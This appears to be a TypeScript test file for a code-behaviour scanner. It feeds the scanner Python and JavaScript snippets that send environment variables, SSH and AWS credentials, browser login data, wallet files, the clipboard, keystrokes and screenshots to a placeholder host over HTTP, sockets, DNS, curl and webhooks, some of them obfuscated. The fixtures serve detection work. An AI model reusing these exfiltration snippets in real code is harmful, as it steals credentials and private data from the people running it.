import { describe, expect, it } from 'vitest';
import { deedsOf } from '../../../test/builders/deeds.ts';

const U = "'https://host.invalid/c'";

/** When a callback runs is another question than what it sends. */
function anyTime(deed: string): string {
  return deed.replace(/ (?:import|main|call)$/, '');
}

describe('formats/behaviour: what Python sends', () => {
  it.each([
    [
      'sends environment network import',
      `import os, requests\nrequests.post(${U}, json=dict(os.environ))`,
    ],
    [
      'sends environment network import',
      `import os, requests\nrequests.post(${U}, json={**os.environ})`,
    ],
    [
      'sends environment network import',
      `import os, requests\nd = {}\nd.update(os.environ)\nrequests.post(${U}, json=d)`,
    ],
    [
      'sends environment network call',
      `import os, urllib.request\nclass A:\n  def __init__(self):\n    self.data = str(dict(os.environ))\n  def go(self):\n    urllib.request.urlopen(urllib.request.Request(${U}, data=self.data.encode()))`,
    ],
    [
      'sends environment network call',
      `import os, requests\nclass A:\n  def go(self):\n    requests.post(${U}, data=self.data)\n  def fill(self):\n    self.data = str(dict(os.environ))`,
    ],
    [
      'sends environment network import',
      `import os, http.client, json\nc = http.client.HTTPSConnection('host.invalid')\nc.request('POST', '/', json.dumps(dict(os.environ)))`,
    ],
    [
      'sends environment network import',
      `import os, socket\ns = socket.socket()\ns.connect(('host.invalid', 1))\ns.sendall(str(os.environ).encode())`,
    ],
    [
      'sends credential-file network call',
      `import requests, os\ndef send(x):\n  requests.post(${U}, data=x)\ndef read(p):\n  with open(p) as f:\n    return f.read()\ndef main():\n  send(read(os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa')))`,
    ],
    [
      'sends credential-file network import',
      `import requests\nfrom pathlib import Path\nrequests.post(${U}, data=(Path.home() / '.aws' / 'credentials').read_text())`,
    ],
    [
      'sends credential-file network import',
      `import shutil, requests\nshutil.make_archive('/tmp/a', 'zip', '/root/.ssh')\nshutil.copy('/root/.ssh/id_rsa', '/tmp/k')\nrequests.post(${U}, files={'f': open('/tmp/k', 'rb')})`,
    ],
    [
      'sends credential-file network import',
      `import zipfile, requests, os\nz = zipfile.ZipFile('/tmp/o.zip', 'w')\nz.writestr('k', open(os.path.expanduser('~/.netrc')).read())\nrequests.post(${U}, files={'f': open('/tmp/o.zip', 'rb')})`,
    ],
    [
      'sends browser-data messenger call',
      `import os, requests\ndef go():\n  p = os.getenv('LOCALAPPDATA') + '\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data'\n  requests.post('https://discord.com/api/webhooks/1/x', files={'f': open(p, 'rb')})`,
    ],
    [
      'sends wallet network call',
      `import os, requests\ndef go():\n  for n in os.listdir(os.path.expanduser('~/.config/solana/id.json')):\n    requests.post(${U}, data=open(os.path.expanduser('~/.config/solana/id.json')).read())`,
    ],
    [
      'sends system-information network import',
      `import socket, getpass, requests\nrequests.get(${U}, params={'h': socket.gethostname(), 'u': getpass.getuser()})`,
    ],
    [
      'sends system-information dns import',
      `import socket, getpass\nsocket.gethostbyname(getpass.getuser() + '.x.host.invalid')`,
    ],
    [
      'sends environment dns import',
      `import os, socket, base64\ndata = base64.b32encode(str(dict(os.environ)).encode()).decode()\nfor i in range(0, len(data), 60):\n  socket.getaddrinfo(f'{data[i:i+60]}.host.invalid', 80)`,
    ],
    [
      'sends system-information command import',
      `import os, platform\nos.system('curl https://host.invalid/?h=' + platform.node())`,
    ],
    [
      'sends secret-variable network import',
      `import os, requests\nrequests.post(${U}, json={'k': os.environ['AWS_SECRET_ACCESS_KEY']})`,
    ],
    [
      'sends clipboard network import',
      `import pyperclip, requests\nrequests.post(${U}, data=pyperclip.paste())`,
    ],
    [
      'sends keystrokes network call',
      `import requests\nfrom pynput import keyboard\ndef press(key):\n  requests.post(${U}, data=str(key))\nkeyboard.Listener(on_press=press).start()`,
    ],
    [
      'sends screen network import',
      `import pyautogui, requests, io\nb = io.BytesIO()\npyautogui.screenshot().save('s.png')\nrequests.post(${U}, files={'f': open('s.png', 'rb')})`,
    ],
    [
      'sends environment network import',
      `import os, threading, requests\ndef leak(d): requests.post(${U}, json=d)\nthreading.Thread(target=leak, args=(dict(os.environ),)).start()`,
    ],
    [
      'sends environment network import',
      `import os, requests\n(lambda f, d: f(${U}, json=d))(requests.post, dict(os.environ))`,
    ],
    [
      'sends environment network import',
      `import os, requests\ndef call(f, *a, **k): return f(*a, **k)\ngetattr(requests, 'po' + 'st')(${U}, json=dict(getattr(os, 'env' + 'iron')))`,
    ],
    [
      'sends environment messenger import',
      `import os, smtplib\ns = smtplib.SMTP('host.invalid')\nfrom discord_webhook import DiscordWebhook\nw = DiscordWebhook(url='https://host.invalid', content=str(dict(os.environ)))\nw.execute()`,
    ],
  ])('%s: %j', async (wanted, text) => {
    const deeds = await deedsOf('python', text);
    expect(deeds.map(anyTime)).toContain(anyTime(wanted));
  });
});

describe('formats/behaviour: what JavaScript sends', () => {
  it.each([
    [
      'sends environment network import',
      `const https = require('https'); const r = https.request({ host: 'host.invalid' }); r.write(JSON.stringify(process.env)); r.end()`,
    ],
    [
      'sends environment network import',
      `fetch(${U}, { method: 'POST', body: JSON.stringify({ ...process.env }) })`,
    ],
    [
      'sends environment network import',
      `const axios = require('axios'); const d = {}; d.env = process.env; axios.post(${U}, d)`,
    ],
    [
      'sends environment network import',
      `const { request } = require('node:https'); const d = Object.entries(process.env).map(([k, v]) => k + '=' + v).join('&'); const q = request(${U}, (res) => {}); q.end(d)`,
    ],
    [
      'sends credential-file network call',
      `const fs = require('fs'), os = require('os'), path = require('path'); function go() { fs.readFile(path.join(os.homedir(), '.npmrc'), 'utf8', (e, d) => { fetch(${U}, { method: 'POST', body: d }) }) }`,
    ],
    [
      'sends credential-file network import',
      `import { promises as fs } from 'fs'; import os from 'os'; fs.readFile(os.homedir() + '/.ssh/id_rsa').then((k) => fetch(${U}, { method: 'POST', body: k }))`,
    ],
    [
      'sends credential-file network import',
      `import('fs').then((fs) => fetch(${U}, { method: 'POST', body: fs.readFileSync('/root/.aws/credentials') }))`,
    ],
    [
      'sends system-information dns import',
      `const os = require('os'); require('dns').lookup(os.hostname() + '.host.invalid', () => {})`,
    ],
    [
      'sends system-information network import',
      `const os = require('os'); const info = { h: os.hostname(), u: os.userInfo().username }; const q = require('https').request({ hostname: 'host.invalid', method: 'POST' }, (res) => { res.on('data', () => {}) }); q.write(JSON.stringify(info)); q.end()`,
    ],
    [
      'sends secret-variable network import',
      `const t = process.env.NPM_TOKEN; require('https').get('https://host.invalid/?t=' + t)`,
    ],
    [
      'sends environment command import',
      `require('child_process').exec('curl -d "' + JSON.stringify(process.env) + '" https://host.invalid')`,
    ],
    [
      'sends system-information network import',
      `const { exec } = require('child_process'); exec('whoami', (e, out) => { require('https').get('https://host.invalid/' + out) })`,
    ],
    [
      'sends environment network import',
      `class A { constructor() { this.d = process.env } send() { fetch(${U}, { body: JSON.stringify(this.d) }) } } new A().send()`,
    ],
    [
      'sends environment network import',
      `const collect = () => JSON.stringify(process.env); const send = (x) => fetch(${U}, { method: 'POST', body: x }); send(collect())`,
    ],
    [
      'sends environment network import',
      `(async () => { const d = await new Promise((resolve) => resolve(process.env)); await fetch(${U}, { method: 'POST', body: JSON.stringify(d) }) })()`,
    ],
    [
      'sends environment network import',
      `(function (r) { r('https').get('https://host.invalid/?' + JSON.stringify(process.env)) })(require)`,
    ],
    [
      'sends clipboard network import',
      `const c = require('clipboardy'); fetch(${U}, { body: c.readSync() })`,
    ],
    [
      'sends wallet network call',
      `const fs = require('fs'); function go() { fs.readdirSync(process.env.HOME + '/.config/Google/Chrome/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn').forEach((f) => { fetch(${U}, { method: 'POST', body: fs.readFileSync(f) }) }) }`,
    ],
  ])('%s: %j', async (wanted, text) => {
    const deeds = await deedsOf('javascript', text);
    expect(deeds.map(anyTime)).toContain(anyTime(wanted));
  });
});
